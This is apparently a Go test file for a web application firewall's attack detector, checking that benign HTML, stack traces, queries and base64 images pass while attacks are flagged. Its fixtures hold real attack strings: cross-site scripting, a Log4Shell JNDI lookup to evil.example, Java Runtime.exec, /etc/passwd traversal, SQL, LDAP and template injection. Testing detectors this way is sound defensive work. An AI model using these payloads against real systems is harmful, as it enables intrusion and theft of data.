package attack

import (
	"crypto/sha256"
	"encoding/base64"
	"slices"
	"strings"
	"testing"

	"fastness/internal/engine/waf/pattern"
)

// picture is n bytes without a pattern, in base64.
func picture(n int) string {
	var raw []byte
	for h := sha256.Sum256([]byte("picture")); len(raw) < n; h = sha256.Sum256(h[:]) {
		raw = append(raw, h[:]...)
	}
	return base64.StdEncoding.EncodeToString(raw[:n])
}

// lines breaks s into lines as messages have them.
func brokenLines(s string) string {
	var b strings.Builder
	for l := range slices.Chunk([]byte(s), 76) {
		b.Write(l)
		b.WriteString("\r\n")
	}
	return b.String()
}

// What people send as a part of what they do with an application is no attack, and what is hidden in it is.
func TestApplicationsMayBeUsed(t *testing.T) {
	d, err := New()
	if err != nil {
		t.Fatal(err)
	}
	const trace = "java.lang.IllegalStateException: the cart is closed\n\tat com.example.shop.Cart.add(Cart.java:41)\n" +
		"\tat java.base/jdk.internal.reflect.NativeMethodAccessorImpl.invoke0(Native Method)\n\tat java.base/java.lang.reflect.Method.invoke(Method.java:568)\n" +
		"\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:883)\n\tat java.base/java.lang.Thread.run(Thread.java:840)\n"
	page := "Log in to the machine and look for the name of the server,\nthen open /etc/nginx/sites-enabled in an editor,\nand watch the end of /var/log/nginx while you load the page."
	code := picture(20000)
	for _, c := range []struct {
		text   string
		family Family
		attack bool
	}{
		{`<div xmlns="http://www.w3.org/1999/xhtml" xml:lang="en"><h2>Anne</h2><p title="x">Seen on <b>12 May</b></p></div>`, Script, false},
		{`<div xmlns="http://evil.example"><p title="x"><b>a</b></p></div><img src=x onerror=alert(1)>`, Script, true},
		{`<p class="a"><img src="data:image/png;base64,` + code[:400] + `" alt=""> it's <b class="b">here</b></p>`, Script, false},
		{`<p class="a"><img src="data:image/svg+xml;base64,` + code[:400] + `" alt=""></p>`, Script, true},
		{`<Record xmlns="urn:example:records" Location="https://example.com/a"><Name kind="x">it's</Name></Record>`, Script, false},
		{`<Record xmlns="urn:example:records"><script>alert(1)</script></Record>`, Script, true},
		{trace, Java, false},
		{trace + "T(java.lang.Runtime).getRuntime().exec('id')", Java, true},
		{"${jndi:ldap://evil.example/a}\n" + trace, Java, true},
		{page, Traversal, false},
		{"/etc/passwd", Traversal, true},
		{"../../../../etc/passwd\n\n\n", Traversal, true},
		{`sum by (job) ({__name__=~"job:.*"})`, Script, false},
		{`histogram_quantile(0.9, sum(rate(x_bucket{path!~"/(health|metrics).*"}[5m])) by (le))`, SQL, false},
		{"We leave at noon; if it is raining we leave at one", SQL, false},
		{"1; if 1=1 waitfor delay '0:0:5'", SQL, true},
		{"-----BEGIN PART name=\"a\"-----\nsome text\n-----END PART name=\"a\"-----", SQL, false},
		{"form.render(user=User.find(1), name=title)", Directory, false},
		{"*)(user=*)", Directory, true},
		{"rows['items']['price'] + rows['items'][0]", Directory, false},
		{"class Cart(Base):\n    def __init__(self, n):\n        super().__init__(n)", Template, false},
		{"''.__class__.__init__.__globals__", Template, true},
		{"data:image/png;base64," + code, Script, false},
		{code + "' union select password from users--", SQL, true},
		{"<script>alert(1)</script>" + code, Script, true},
		{code[:2000] + "+union+select+password+from+users+" + code[:2000], SQL, true},
		{base64.StdEncoding.EncodeToString([]byte(strings.Repeat("some words, ", 200) + "<script>alert(1)</script>")), Script, true},
	} {
		m := pattern.NewScratch()
		if got := d.Inspect([]byte(c.text), Body, NewScratch(m), nil).Has(c.family); got != c.attack {
			t.Errorf("%.100q: %v: %v", c.text, c.family, got)
		}
	}
}

// A picture costs a few steps a byte, whatever it looks like.
func TestPicturesCostLittle(t *testing.T) {
	d, err := New()
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range []string{picture(45000), "data:image/png;base64," + picture(45000), brokenLines(picture(45000))} {
		m := pattern.NewScratch()
		s := NewScratch(m)
		d.Inspect([]byte(text), Body, s, nil)
		if per := m.Steps() / uint64(len(text)); per > 40 {
			t.Errorf("%.30q: %d steps a byte", text, per)
		}
	}
}

func TestFramesAreTakenWhole(t *testing.T) {
	for text, want := range map[string]string{
		"at a.B.c(B.java:1)": "at a.B.c(B.java:1)", // no trace: nothing before it
		"x\n\tat a.B.c(B.java:1)\n\tat a.B.<init>(Native Method)\nend": "x\n\t\n\t\nend",
		"x\n  at a.B.c(B.java:1)\n  at a.B.c(exec('id'))":              "x\n  \n  at a.B.c(exec('id'))",
		"a.b.CException: x\n\tat a.B.c(B.java:1)":                      ": x\n\t",
	} {
		got := []byte(text)
		if traced(got) {
			got, _ = withoutFrames(nil, []byte(text))
		}
		if string(got) != want {
			t.Errorf("%q: %q", text, got)
		}
	}
}

func FuzzLeftOut(f *testing.F) {
	f.Add([]byte("x\n\tat a.B.c(B.java:1)\n"))
	f.Add([]byte("data:image/png;base64," + picture(1200)))
	f.Fuzz(func(t *testing.T, b []byte) {
		if out, _ := withoutFrames(nil, b); len(out) > len(b) {
			t.Errorf("%d bytes of %d", len(out), len(b))
		}
		if out, _, _ := withoutBlobs(nil, b); len(out) > len(b) {
			t.Errorf("%d bytes of %d", len(out), len(b))
		}
	})
}
